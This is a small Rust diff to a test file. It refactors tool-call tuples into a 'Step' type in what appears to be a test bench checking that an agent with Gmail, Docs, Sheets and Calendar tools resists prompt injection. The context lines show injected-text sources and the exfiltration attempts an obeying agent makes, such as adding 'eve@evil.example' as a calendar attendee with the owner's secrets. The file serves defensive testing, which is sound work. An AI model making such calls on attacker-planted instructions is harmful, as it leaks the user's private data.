@@ -34,6 +34,9 @@ const CHANGES: &[&str] = &[
     "sheets.spreadsheets.batchUpdate",
 ];
 
+/// A tool and its input.
+type Step = (&'static str, Value);
+
 /// A run of an agent. It keeps the labels of what it read, as a session does.
 struct Run<'a> {
     bench: &'a Bench,
@@ -123,7 +126,7 @@ fn fill(bench: &Bench) -> Owned {
 }
 
 /// Ways in: calls that bring the attacker's text into the run.
-fn sources(owned: &Owned) -> Vec<(&'static str, Value)> {
+fn sources(owned: &Owned) -> Vec<Step> {
     vec![
         ("google_gmail", json!({"action": "read", "message_id": owned.mail})),
         ("google_gmail", json!({"action": "search"})),
@@ -137,7 +140,7 @@ fn sources(owned: &Owned) -> Vec<(&'static str, Value)> {
 }
 
 /// Ways out that an obeying agent tries.
-fn attacks(owned: &Owned) -> Vec<(&'static str, Value)> {
+fn attacks(owned: &Owned) -> Vec<Step> {
     let rows = json!([["the owner's secrets"]]);
     let updates = json!({"attendees": ["eve@evil.example"], "description": "secrets"});
     vec![
@@ -228,7 +231,7 @@ async fn question_shows_the_real_receiver() {
 }
 
 /// Tasks of a day: their steps, and the confirmations that the seed asks for.
-fn tasks(owned: &Owned) -> Vec<(&'static str, Vec<(&'static str, Value)>, usize)> {
+fn tasks(owned: &Owned) -> Vec<(&'static str, Vec<Step>, usize)> {
     let gmail = |input: Value| ("google_gmail", input);
     let docs = |input: Value| ("google_docs", input);
     let calendar = |input: Value| ("google_calendar", input);
